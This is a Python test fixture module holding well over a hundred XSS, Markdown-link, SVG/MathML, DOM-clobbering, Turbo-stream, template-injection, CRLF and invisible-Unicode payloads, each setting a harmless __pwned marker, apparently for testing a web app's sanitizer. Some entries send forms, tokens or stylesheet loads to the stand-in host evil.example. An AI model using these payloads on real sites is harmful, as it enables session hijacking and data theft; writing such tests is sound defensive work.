"""What a hostile colleague writes: each line would set `window.__pwned` if anything of it ran."""

# ruff: noqa: E501 (payloads stand on one line, and some look like what they are not)

import base64
import zlib

_PAGE = base64.b64encode(b"<script>top.__pwned=1</script>").decode()

LINES = rf"""
<script>__pwned=1</script>
<ScRiPt src=data:text/javascript,__pwned=1></sCrIpT>
<script type=module>top.__pwned=1</script>
<scr<script>ipt>__pwned=1</scr</script>ipt>
<script>__pwned=1
</textarea></title></style></template><script>__pwned=1</script>
&lt;script&gt;__pwned=1&lt;/script&gt;
&#60;script&#x3e;__pwned=1&#60;/script&#x3e;
&amp;lt;img src=x onerror=__pwned=1&amp;gt;
\u003cscript\u003e__pwned=1\u003c/script\u003e
+ADw-script+AD4-__pwned=1+ADw-/script+AD4-
＜script＞__pwned=1＜/script＞
%3Cscript%3E__pwned=1%3C/script%3E
"><img src=x onerror=__pwned=1>
'><svg onload=__pwned=1>
" autofocus onfocus=__pwned=1 data-pwned="1
' onmouseover='__pwned=1' data-pwned='1
" data-turbo-method="delete" data-pwned="__pwned=1
` onclick=__pwned=1 data-pwned=`
<img src=x onerror=__pwned=1 //
<img/src=x/onerror=__pwned=1>
<image href=x onerror=__pwned=1>
<body onload=__pwned=1 onhashchange=__pwned=2>
<details open ontoggle=__pwned=1>x</details>
<video><source onerror=__pwned=1></video>
<input autofocus onfocus=__pwned=1>
<marquee onstart=__pwned=1>x</marquee>
<dialog open onbeforetoggle=__pwned=1>x</dialog>
<p style=animation-name:x onanimationstart=__pwned=1>x
<a href="javascript:__pwned=1">x</a>
<a href=data:text/html;base64,{_PAGE}>__pwned</a>
[x](javascript:__pwned=1)
[x](JaVaScRiPt:__pwned=1)
[x](javascript&colon;__pwned=1)
[x](java&Tab;script:__pwned=1)
[x](java&#x0a;script&#58;__pwned=1)
[x](&#1;javascript:__pwned=1)
[x](<java	script:__pwned=1>)
[x](javascript://%0a__pwned=1)
[x](vbscript:__pwned=1)
[x](data:text/html;base64,{_PAGE}) __pwned
[x](data:image/svg+xml,<svg/onload=__pwned=1>)
[x](blob:https://evil.example/__pwned)
[x](view-source:javascript:__pwned=1)
[x](//evil.example/__pwned)
[x](/\evil.example/__pwned)
[x](https://evil.example/"onmouseover="__pwned=1)
[x](https://evil.example/__pwned '"onclick="__pwned=1')
[x](https://evil.example@company.example/__pwned)
[x](https://еvil.example/__pwned)
![x"onerror="__pwned=1](https://evil.example/__pwned.png)
![[x](javascript:__pwned=1)](javascript:__pwned=1)
[![x](javascript:__pwned=1)](https://evil.example/__pwned)
[[[[x](javascript:__pwned=1)](/y)](/z)](javascript:__pwned=1)
<javascript:__pwned=1>
<https://evil.example/"onclick=__pwned=1>
<x"onclick=__pwned=1@evil.example>
https://evil.example/"onmouseover="__pwned=1"
https://evil.example/'><script>__pwned=1</script>
www.evil.example/"><img/src=x/onerror=__pwned=1>
mailto:x@evil.example?subject=<script>__pwned=1</script>
x"onclick="__pwned=1@evil.example
<svg><script>__pwned=1</script></svg>
<svg><a xlink:href="javascript:__pwned=1"><text>x</text></a></svg>
<svg><set attributeName=href to=javascript:__pwned=1 /></svg>
<svg><animate onbegin=__pwned=1 attributeName=x dur=1s>
<svg><foreignObject><iframe srcdoc="&lt;script>top.__pwned=1&lt;/script>"></foreignObject></svg>
<svg><use href="data:image/svg+xml,<svg id='x' onload='__pwned=1'/>#x"/></svg>
<svg></p><style><a id="</style><img src=1 onerror=__pwned=1>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=__pwned=1&gt;">
<math href="javascript:__pwned=1">x</math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=__pwned=1>
<noscript><p title="</noscript><img src=x onerror=__pwned=1>">
<template><script>__pwned=1</script></template>
<template shadowrootmode=open><img src=x onerror=__pwned=1></template>
<a id=__clobbered name=__clobbered>__pwned</a><form name=__clobbered><input name=action></form>
<div id=mine>{{"me":1,"__pwned":1}}</div><div id=toasts></div><div id=bell></div>
<form id=act action=https://evil.example/__pwned><input name=csrfmiddlewaretoken value=x></form>
<meta name=csp-nonce content=__pwned><meta name=turbo-visit-control content=reload>
<turbo-stream action=append target=main><template><img src=x onerror=__pwned=1></template></turbo-stream>
<turbo-stream action="refresh" data-x="__pwned"></turbo-stream>
</template></turbo-stream><turbo-stream action=replace target=main><template>__pwned
<turbo-frame id=main src=https://evil.example/__pwned></turbo-frame>
<a href=/accounts/logout/ data-turbo-method=post data-turbo-confirm=__pwned>x</a>
<div data-turbo-permanent id=toasts>__pwned</div>
<live-screen path=https://evil.example/__pwned ticket=x position=0.0></live-screen>
<compose-box open><form action=https://evil.example/__pwned></form></compose-box>
<fold-text more=__pwned></fold-text><menu-box><a href=javascript:__pwned=1>x</a></menu-box>
<toast-note class=toast>__pwned</toast-note><reaction-picker entry="__pwned">
<meta http-equiv=refresh content="0;url=javascript:__pwned=1">
<base href=https://evil.example/__pwned/>
<link rel=stylesheet href=https://evil.example/__pwned.css>
<link rel=prefetch href=https://evil.example/__pwned><link rel=modulepreload href=//evil.example/__pwned>
<style>@import url(https://evil.example/__pwned.css);*{{display:none}}</style>
<p style="background:url(https://evil.example/__pwned);position:fixed;inset:0">x
<p style="width:expression(__pwned=1)">x
<iframe srcdoc="<script>top.__pwned=1</script>"></iframe>
<iframe src=javascript:top.__pwned=1></iframe>
<object data=data:text/html;base64,{_PAGE}></object> __pwned
<embed src=//evil.example/__pwned.swf>
<portal src=https://evil.example/__pwned>
<form action=javascript:__pwned=1><button>x</button></form>
<button form=leave formaction=https://evil.example/__pwned>x</button>
<input type=image src=https://evil.example/__pwned formaction=javascript:__pwned=1>
<isindex type=image src=1 onerror=__pwned=1>
<keygen autofocus onfocus=__pwned=1>
<!--><script>__pwned=1</script>-->
<!--[if IE]><script>__pwned=1</script><![endif]-->
<![CDATA[<script>__pwned=1</script>]]>
<?xml-stylesheet href="javascript:__pwned=1"?>
<!DOCTYPE x [<!ENTITY y SYSTEM "https://evil.example/__pwned">]>&y;
<x:script xmlns:x="http://www.w3.org/1999/xhtml">__pwned=1</x:script>
{{{{7*7}}}}{{% load static %}}{{{{request.user.password}}}}__pwned
{{names}}{{0.__class__}}%(names)s%s%n${{__pwned=1}}
#tag"><script>__pwned=1</script> #__pwned #"onclick=__pwned=1
#__pwned/../../accounts/logout #ＪＳ__pwned
@ada"><script>__pwned=1</script> @__pwned @../../settings
=HYPERLINK("https://evil.example/__pwned";"x")
```html </code></pre><script>__pwned=1</script>
~~~ onload=__pwned=1 class="x"
`</code><img src=x onerror=__pwned=1>`
*<img src=x onerror=__pwned=1>* **[x](javascript:__pwned=1)**
> - 1. # <svg/onload=__pwned=1>
| <script>__pwned=1</script> | [x](javascript:__pwned=1) |
__proto__.__pwned=1 constructor.prototype
😀<img src=x onerror=__pwned=1>👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿
Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘ __pwned
""".strip().split("\n")  # fmt: skip

BLOCKS = [
    "[x]\n\n[x]: javascript:__pwned=1",
    "[x]\n\n[x]: <data:text/html,__pwned> '\"onclick=\"__pwned=1'",
    '![x][y]\n\n[y]: https://evil.example/__pwned "onerror=__pwned=1"',
    "| a |\n|:style=x:|\n| <script>__pwned=1</script> |",
    "```html\n</code></pre><script>__pwned=1</script>\n```",
    "    </code></pre><script>__pwned=1</script>",
    "<div>\n\n*__pwned*\n\n</div onclick=__pwned=1>",
    "- [x] <input type=checkbox onclick=__pwned=1>",
    "999999999. <script>__pwned=1</script>",
    ">" * 60 + " <script>__pwned=1</script>",
    "*_" * 30 + "[x](javascript:__pwned=1)",
    "[x](java\nscript:__pwned=1)",
    "first\r\nSet-Cookie: __pwned=1\r\n\r\n<script>__pwned=1</script>",
]

# What no eye sees, and what makes a line read otherwise than it is written.
INVISIBLE = [
    "[x](java\u200bscript:__pwned=1)",
    "[x](\ufeffjavascript:__pwned=1)",
    "[x](\x01\x1fjavascript:__pwned=1)",
    "\u202e<script>__pwned=1</script>\u202c",
    "\u2066\u2067__pwned=1\u2069 @a\u200bda #t\u2060ag",
    "<scr\u00adipt>__pwned=1</scr\u00adipt>",
    "<\u0130mg src=x onerror=__pwned=1>",
    "a\u200d\u200d\u200d__pwned\u3164\u115f",
    "\x1b]8;;javascript:__pwned=1\x07x\x1b]8;;\x07\x1b[2J",
    "\x9b31m__pwned\x85<script>__pwned=1</script>\u2028<b>\u2029",
    "\U000e0041\U000e0042__pwned\ufff9a\ufffab\ufffb",
    "W" * 95 + "__pwned",
    "\u0f3c" * 60 + "__pwned" + "\ufdfd" * 20,
]

# What forms refuse and files are refused for; they must not run from the page that says so.
BROKEN = [
    "\x00<script>__pwned=1</script>",
    "[x](java\x00script:__pwned=1)",
    "\ud800<img src=x onerror=__pwned=1>\udfff",
]

PAYLOADS = [*LINES, *BLOCKS, *INVISIBLE]
assert len(set(PAYLOADS)) == len(PAYLOADS), "a payload stands twice"


def number_of(payload: str) -> str:
    """A short number of its own for each payload."""
    return f"{zlib.crc32(payload.encode('utf-8', 'surrogatepass')):08x}"


def one_line(payload: str, longest: int) -> str:
    """The payload as it fits into a field of one line."""
    return " ".join(payload.split("\n"))[:longest]
